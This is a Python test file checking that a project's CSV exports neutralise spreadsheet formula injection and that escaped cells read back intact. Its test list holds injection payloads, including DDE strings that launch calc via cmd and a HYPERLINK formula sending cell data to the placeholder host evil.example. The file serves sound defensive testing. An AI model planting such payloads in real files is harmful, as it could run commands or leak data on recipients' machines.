"""Tables for people: no cell is taken for a formula, in any country's spreadsheet; all come back as they were."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from spotid.cli import main
from spotid.export import tables
from spotid.project import frame_table
from spotid.project.cells import read_back, written

HOSTILE = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "a;=1+1.jpg",
    "a\t=1+1.jpg",
    "a\r\n=1+1",
    "-1_000",
    "-inf",
    "+nan",
    "=",
]
FORMULA = re.compile(r"[=+\-@\t\r＝＋－＠]")
NUMBER = re.compile(r"[+-]?[\d.,eE+-]+")
TEXTS = st.text(st.sampled_from("=+-@\t\r\n;,'\" a1.＝e"), max_size=12) | st.text(max_size=20)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_begins_a_cell(text: str) -> None:
    for cell in re.split(r"[;\t\r\n]", written(text)):
        assert not FORMULA.match(cell), cell
    assert read_back(written(text)) == text


@given(TEXTS)
@example("''=x")
@example("'\t=")
@example(";'=")
def test_cells_come_back_as_they_were(text: str) -> None:
    assert read_back(written(text)) == text
    for cell in re.split(r"[;\t\r\n]", written(text)):
        assert not FORMULA.match(cell) or NUMBER.fullmatch(text)


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers() | st.none() | st.booleans())
def test_numbers_stay_numbers(value: object) -> None:
    assert written(value) is value
    if isinstance(value, float | int) and not isinstance(value, bool):
        assert written(str(value)) == str(value)


@given(st.lists(TEXTS, min_size=1, max_size=3))
def test_a_whole_table_comes_back(texts: list[str]) -> None:
    columns = (("Station", ""), ("Camera", ""))
    content = tables.text_of(columns, [{"Station": text, "Camera": -5.25} for text in texts])
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [read_back(line[0]) for line in lines[1:]] == texts
    assert {line[1] for line in lines[1:]} == {"-5.25"}


def test_every_table_for_people_is_guarded_and_boxes_come_back(stock, picture, tmp_path) -> None:
    from click.testing import CliRunner

    for name in ("=1+1.jpg", "+cmd/@x.jpg", "a;=2.jpg"):
        stock.add(name, picture())
    stock.list_all()
    stock.project.close()
    folder, runner = stock.project.path, CliRunner()
    out = {name: tmp_path / f"{name}.csv" for name in ("rank", "sightings", "boxes")}
    mine = tmp_path / "mine.csv"
    mine.write_text("path,x,y,w,h\n'=1+1.jpg,.1,.1,.5,.5\n+cmd/@x.jpg,.1,.1,.5,.5\na;'=2.jpg,,,,\n", encoding="utf-8")
    for arguments in (
        ["rank", "--project", folder, "--out", out["rank"]],
        ["sightings", "--project", folder, "--out", out["sightings"]],
        ["boxes", folder, "--import", mine, "--export", out["boxes"], "--sure"],
    ):
        done = runner.invoke(main, [str(one) for one in arguments])
        assert done.exit_code == 0, done.output
    for name, path in out.items():
        with path.open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for line in csv.reader(file) for cell in line]
        assert any(cell.startswith("'=1+1") for cell in cells), name
        for cell in cells:
            assert all(not FORMULA.match(part) for part in cell.split(";") if not NUMBER.fullmatch(part)), (name, cell)
    again = runner.invoke(main, ["boxes", str(folder), "--import", str(out["boxes"])])
    assert again.exit_code == 0 and "0 lines could not be used" in again.output, again.output
    assert "3 were known" in again.output
    assert frame_table.COLUMNS[0] == "path"
